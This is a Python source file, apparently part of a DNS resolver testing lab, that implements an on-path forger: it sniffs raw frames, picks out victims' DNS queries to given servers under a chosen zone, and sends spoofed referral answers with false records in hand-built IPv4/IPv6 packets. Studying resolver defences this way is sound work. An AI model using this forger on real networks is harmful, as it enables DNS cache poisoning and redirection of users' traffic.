# SPDX-License-Identifier: BSD-2-Clause
"""A forger at the exchange: sees a resolver's queries and answers first, as the parent server."""

import socket
import struct

import dns

ETH_IPV4, ETH_IPV6 = 0x0800, 0x86DD


def checksum(octets):
    """The Internet checksum."""
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_packet(source, target, sport, dport, payload, hops, ident=0):
    """An IPv4 or IPv6 packet with one UDP datagram, checksums right."""
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, target)
    length = 8 + len(payload)
    udp = struct.pack("!4H", sport, dport, length, 0) + payload
    pseudo = ends + (struct.pack("!I3xB", length, 17) if family == socket.AF_INET6
                     else struct.pack("!xBH", 17, length))
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, length, 17, hops) + ends + udp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, ident, 0, hops, 17, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


class Query:
    """A DNS query over UDP seen on the wire."""

    def __init__(self, frame):
        self.sender = frame[6:12]
        kind = struct.unpack_from("!H", frame, 12)[0]
        packet = frame[14:]
        if kind == ETH_IPV4 and packet[9] == 17:
            start, family = (packet[0] & 15) * 4, socket.AF_INET
            ends = packet[12:16], packet[16:20]
        elif kind == ETH_IPV6 and packet[6] == 17:
            start, family = 40, socket.AF_INET6
            ends = packet[8:24], packet[24:40]
        else:
            raise dns.FormatError("not UDP")
        self.source, self.target = (socket.inet_ntop(family, end) for end in ends)
        self.sport, self.dport, length = struct.unpack_from("!3H", packet, start)
        self.payload = packet[start + 8:start + length]
        if self.dport != 53:
            raise dns.FormatError("not to a server")
        self.message = dns.Message(self.payload)
        self.name, self.qtype, _ = self.message.questions[0]

    def question(self):
        """The question section as it was sent, letter case and all."""
        return self.payload[12:12 + len(dns.name_wire(self.name)) + 4]


class Forger:
    """Answers queries from VICTIMS to SERVER_ADDRESSES for names under CUT with false RECORDS.

    RECORDS is a pair of lists: the authority and the additional section of the false referral.
    HOPS is the IP TTL that the forged packets arrive with.
    """

    def __init__(self, host, victims, server_addresses, cut, records, hops):
        self.lab = host.lab
        self.victims = victims
        self.servers = server_addresses
        self.cut = cut
        self.records = records
        self.hops = hops
        self.forged = 0
        self.hwaddr = host.hwaddr()
        self.ear = self.lab.socket_in(self.lab.hub, socket.AF_PACKET, socket.SOCK_RAW,
                                      socket.htons(3))
        self.ear.bind(("hub", 3))
        self.ear.settimeout(0.2)
        self.mouth = host.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.mouth.bind(("eth0", 0))

    def work(self):
        """Forge until the lab closes."""
        while not self.lab.closing.is_set():
            try:
                frame = self.ear.recv(65535)
                query = Query(frame)
            except (TimeoutError, dns.FormatError, struct.error, IndexError):
                continue
            if self.wants(query):
                self.mouth.send(self.forge(query))
                self.forged += 1

    def wants(self, query):
        """Whether this query is one to answer falsely."""
        name = "." + query.name.lower()
        return (query.source in self.victims and query.target in self.servers
                and name.endswith("." + self.cut) and not query.message.is_response())

    def forge(self, query):
        """The whole false frame for QUERY."""
        authority, additional = self.records
        payload = dns.message(query.message.ident, dns.QR, [query.question()], [], authority,
                              list(additional) + [dns.opt()])
        packet = udp_packet(query.target, query.source, 53, query.sport, payload, self.hops,
                            self.forged + 1)
        kind = ETH_IPV6 if ":" in query.source else ETH_IPV4
        return query.sender + self.hwaddr + struct.pack("!H", kind) + packet
